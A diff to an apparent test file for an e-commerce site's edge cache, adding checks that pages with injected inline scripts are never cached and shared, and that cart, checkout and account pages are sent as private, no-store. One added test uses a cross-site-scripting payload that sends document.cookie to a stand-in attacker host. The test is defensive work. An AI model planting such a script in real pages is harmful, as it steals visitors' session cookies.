@@ -3,6 +3,7 @@ import { describe, expect, it, vi } from "vitest";
 import { createWorker, type PageRenderer } from "../app";
 import { bumpCatalogVersion } from "../services/catalog/version";
 import { edgeCache } from "../services/edge-cache";
+import { guestCookies } from "../test/harness";
 
 /** What the catalogue says right now, as far as the stand-in renderer is concerned. */
 let edition = "first";
@@ -26,7 +27,7 @@ async function get(path: string, headers: Record<string, string> = {}) {
   return { response, body, cspNonce: /'nonce-([^']+)'/.exec(csp)?.[1], bodyNonce: /nonce="([^"]+)"/.exec(body)?.[1] };
 }
 
-const visitor = "he-uuid=0b7a5a4e-1d7e-4b7c-9f52-3c5d8b1a2e11; cc_cookie=" + encodeURIComponent('{"categories":["necessary","analytics"],"revision":1}');
+const visitor = (await guestCookies("0b7a5a4e-1d7e-4b7c-9f52-3c5d8b1a2e11")) + "; cc_cookie=" + encodeURIComponent('{"categories":["necessary","analytics"],"revision":1}');
 
 /** After a catalogue change, the first answer for `path`: rendered without the visitor in it. */
 async function firstShared(path: string) {
@@ -56,6 +57,22 @@ describe("edge cache for listing, product and search pages", () => {
     expect(cookies).toMatch(/he-uuid=[0-9a-f-]{36}/);
     expect(cookies).toMatch(/he-token=/);
     expect(second.response.headers.get("Cache-Control")).toBe("private, no-cache");
+  });
+
+  it("never shares a page holding an inline script the app did not emit", async () => {
+    edition = `<script>fetch("//evil.example/?" + document.cookie)</script>`;
+    try {
+      await bumpCatalogVersion(env.KV);
+      for (let i = 0; i < 2; i++) {
+        const { response, cspNonce } = await get("/category-rings?page=7");
+        expect(response.headers.get("X-Page-Cache")).toBe("MISS");
+        // Its own render answers with this request's nonce, which the injected script lacks.
+        expect(cspNonce).toBeDefined();
+        expect(response.headers.get("Content-Security-Policy")).not.toContain("sha256-");
+      }
+    } finally {
+      edition = "first";
+    }
   });
 
   it("keys by URL, language and currency", async () => {
@@ -144,5 +161,34 @@ describe("edge cache for listing, product and search pages", () => {
     // The ship-to choices that shared pages leave out.
     expect(data.countries).toEqual(expect.arrayContaining([expect.objectContaining({ iso2: "DE", name: expect.any(String) })]));
     expect(response.headers.get("Cache-Control")).toBe("private, no-store");
+  });
+});
+
+describe("personal pages", () => {
+  it("answer Cache-Control: private, no-store", async () => {
+    const personal = [
+      "/cart",
+      "/checkout",
+      "/accounts",
+      "/accounts/orders",
+      "/accounts/orderdetail?orderNumber=HE1",
+      "/accounts/addressbook",
+      "/accounts/wishlist",
+      "/accounts/editpassword",
+      "/payback/sandbox?paymentId=x",
+      "/trackorder?orderNumber=HE2601010001",
+      "/trackorder",
+    ];
+    for (const path of personal) {
+      const { response } = await get(path, { Cookie: visitor });
+      expect(response.headers.get("Cache-Control"), path).toBe("private, no-store");
+    }
+  });
+
+  it("leave shared and other pages cacheable as before", async () => {
+    for (const path of ["/", "/category-rings", "/help/faqs", "/login"]) {
+      const { response } = await get(path);
+      expect(response.headers.get("Cache-Control") ?? "", path).not.toContain("no-store");
+    }
   });
 });
